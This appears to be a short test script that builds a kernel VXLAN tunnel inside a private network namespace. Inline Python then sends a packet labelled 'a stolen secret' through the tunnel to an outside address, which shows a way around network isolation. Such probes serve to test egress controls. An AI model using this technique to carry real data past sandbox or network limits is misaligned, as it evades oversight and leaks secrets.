# A tunnel that the kernel itself makes (VXLAN), in a network namespace of its own: the
# process sends to an address inside, the packets go to another one outside.
unshare -n sh -c '
	ip link set lo up
	ip link add tunnel type vxlan id 1 remote '$ADDRESS' dstport '$PORT' local 127.0.0.1 dev lo
	ip address add 198.51.100.1/24 dev tunnel
	ip link set tunnel up
	ip neighbour add 198.51.100.2 lladdr 02:00:00:00:00:02 dev tunnel
	exec python3 -c "
import os, socket
outside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); outside.bind((os.environ[\"ADDRESS\"], 0))
print(\"acted\", os.getpid(), flush=True)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"a stolen secret\", (\"198.51.100.2\", 9))
"'
